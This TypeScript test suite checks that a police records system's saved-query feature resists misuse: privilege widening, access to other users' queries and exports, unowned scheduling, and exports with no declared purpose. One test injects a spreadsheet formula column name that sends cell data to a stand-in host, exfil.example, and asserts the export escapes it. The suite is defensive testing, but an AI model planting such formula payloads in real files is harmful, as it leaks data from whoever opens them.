import { readdirSync } from 'node:fs';
import { startTestStack, type TestStack } from '../harness/startTestStack';
import { ARRESTS_IN_BOROUGH, INVESTIGATION, REVISE, SHARE, savedQueryClient } from '../workspace/savedQueryClient';

/**
 * Attacks on saved queries (issue 25), over real HTTP: each tries to make a saved query run
 * something, for someone, or with rights it must not, or to reach another user's file.
 */
describe('attacks on saved queries', () => {
  let stack: TestStack;
  let client: ReturnType<typeof savedQueryClient>;
  let detectiveQuery: string;
  beforeAll(async () => {
    stack = await startTestStack();
    client = savedQueryClient(stack);
    detectiveQuery = (await client.save('detective')).id;
  }, 180_000);
  afterAll(() => stack?.close());

  it('[P5] a saved query id beside a query of the caller’s own does not run that query under the saved label', async () => {
    const answer = await client.run('officer', INVESTIGATION, { id: detectiveQuery }, {}, { query: '{ warrants(first: 5) { edges { node { number } } } }' });
    expect(answer.data ?? null).toBeNull();
    expect(answer.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'SAVED_QUERY_WITH_QUERY' });
  });

  it("a private query's id, guessed or leaked, runs for nobody but its owner, and says nothing of it", async () => {
    const answer = await client.run('analyst', INVESTIGATION, { id: detectiveQuery }, { borough: 'BROOKLYN' });
    expect(answer.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'SAVED_QUERY_NOT_FOUND' });
    expect(JSON.stringify(answer)).not.toMatch(/arrests|ArrestsInBorough/);
    const read = await stack.queryAs('analyst', null, 'query($id: ID!) { savedQuery(id: $id) { document } }', { id: detectiveQuery });
    expect(read.data.savedQuery).toBeNull();
  });

  it.each([
    ['partner-da', 'PARTNER', 'a partner agency runs only its approved operations [P14]'],
    ['admin', 'ADMIN', 'an administrator reaches no record data [P16]'],
    ['vendor', 'VENDOR', 'a vendor reaches no record data [P16]'],
  ])('sharing with a role that has no workspace does not let %s run it (%s)', async (user, role, _why) => {
    const shared = await stack.queryAs('detective', null, SHARE, { id: detectiveQuery, shares: [{ kind: 'ROLE', target: role }] });
    expect(shared.errors).toBeUndefined();
    const answer = await client.run(user, { code: 'PROSECUTION', caseNumber: 'IND-2025-0001' }, { id: detectiveQuery }, { borough: 'BROOKLYN' });
    expect(answer.data?.arrests ?? null).toBeNull();
    expect(answer.errors?.[0]?.extensions).toMatchObject({ code: 'FORBIDDEN', reason: 'MISSING_ROLE' });
  });

  it("[P5] a shared query never widens the runner's access, whichever of the two runs it first (no plan or answer reused)", async () => {
    await stack.queryAs('detective', null, SHARE, { id: detectiveQuery, shares: [{ kind: 'ROLE', target: 'OFFICER' }] });
    for (const order of [['officer', 'detective'], ['detective', 'officer']]) {
      const answers = Object.fromEntries(await Promise.all(order.map(async (user) => [user, await client.run(user, INVESTIGATION, { id: detectiveQuery }, { borough: 'BROOKLYN', first: 20 })])));
      const officerPeople = answers.officer.data.arrests.edges.map((e: any) => e.node.person).filter(Boolean);
      expect(officerPeople.length).toBeGreaterThan(0);
      expect(officerPeople.every((p: any) => p.warrants === null)).toBe(true);
      expect(answers.officer.errors.some((e: any) => e.extensions.code === 'FIELD_NOT_AUTHORIZED' && e.extensions.field === 'Person.warrants')).toBe(true);
      expect(answers.detective.errors).toBeUndefined();
    }
  });

  it('someone a query is shared with cannot rewrite it, schedule it, or export as its owner', async () => {
    const revise = await stack.queryAs('officer', null, REVISE, { id: detectiveQuery, input: { ...ARRESTS_IN_BOROUGH, changeNote: 'mine now' } });
    expect(revise.errors?.[0]?.extensions).toMatchObject({ code: 'FORBIDDEN', reason: 'NOT_OWNER' });
    const schedule = await stack.queryAs('officer', null, 'mutation($input: SavedQueryScheduleInput!) { scheduleSavedQuery(input: $input) { id } }', {
      input: { savedQueryId: detectiveQuery, cadence: 'DAILY', purpose: 'CRIMINAL_INVESTIGATION', caseNumber: '2025-075-000001', justification: 'piggyback on the detective schedule' },
    });
    expect(schedule.errors?.[0]?.extensions).toMatchObject({ code: 'FORBIDDEN', reason: 'NOT_OWNER' });
  });

  it("another user's export cannot be downloaded, nor its pages run as theirs to keep a run out of the history", async () => {
    const created = await client.exportOf('detective', INVESTIGATION, { savedQueryId: detectiveQuery, format: 'CSV', variables: { borough: 'BROOKLYN' } });
    expect(created.status).toBe(201);
    const stolen = await client.download('officer', created.body.url);
    expect(stolen.status).toBe(404);
    expect(stolen.bytes.toString()).not.toContain('arrest');
    const [running] = await stack.governanceDb.query<{ id: string }>(
      `INSERT INTO saved_query_export (id, saved_query_id, version, owner_id, format, expires_at) VALUES ('EX-${'a'.repeat(24)}', $1, 1, 'detective', 'CSV', now() + interval '1 day') RETURNING id`,
      [detectiveQuery],
    );
    const before = (await client.runs('officer')).length;
    const page = await client.run('officer', INVESTIGATION, { id: detectiveQuery, exportId: running!.id }, { borough: 'BROOKLYN' });
    expect(page.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'extensions.savedQuery.exportId' });
    expect((await client.runs('officer')).length).toBe(before + 0);
  });

  it('a column name written to be a spreadsheet formula is neutralised in the CSV export', async () => {
    const saved = await client.save('analyst', {
      ...ARRESTS_IN_BOROUGH,
      document: '{ arrests(first: 3) { edges { node { number } } } }',
      columns: { rows: 'arrests.edges', columns: [{ name: '=HYPERLINK("http://exfil.example/?"&A2,"open")', path: 'node.number' }, { name: '@SUM(1+1)', path: 'node.number' }] },
      parameterDescriptions: [],
    });
    const created = await client.exportOf('analyst', INVESTIGATION, { savedQueryId: saved.id, format: 'CSV' });
    expect([created.status, created.body.errors]).toEqual([201, undefined]);
    const file = (await client.download('analyst', created.body.url)).bytes.toString('utf8');
    const header = file.split('\r\n')[0]!;
    expect(header).toBe(`"'=HYPERLINK(""http://exfil.example/?""&A2,""open"")","'@SUM(1+1)"`);
  });

  it('an export without a declared purpose is refused on its first page, leaves no file, and is audited', async () => {
    const created = await client.exportOf('detective', null, { savedQueryId: detectiveQuery, format: 'JSON', variables: { borough: 'BROOKLYN' } });
    expect(created.status).toBeGreaterThanOrEqual(400);
    expect(created.body.errors[0].extensions.code).toBe('PURPOSE_REQUIRED');
    const [failed] = await stack.governanceDb.query<{ id: string; status: string }>(`SELECT id, status FROM saved_query_export WHERE owner_id = 'detective' ORDER BY created_at DESC LIMIT 1`);
    expect(failed!.status).toBe('FAILED');
    expect(readdirSync(stack.exportsDir).filter((name) => name.startsWith(failed!.id))).toEqual([]);
    const events = await stack.governanceDb.query<{ kind: string; event: any }>(`SELECT kind, event FROM audit_event WHERE user_id = 'detective' ORDER BY seq DESC LIMIT 2`);
    // The refused page (an operation without a purpose), then the export's own refusal.
    expect(events.map((e) => [e.kind, e.event.outcome, e.event.errorCodes])).toEqual([['OPERATION', 'REFUSED', ['PURPOSE_REQUIRED']], ['OPERATION', 'REFUSED', ['PURPOSE_REQUIRED']]]);
  });
});
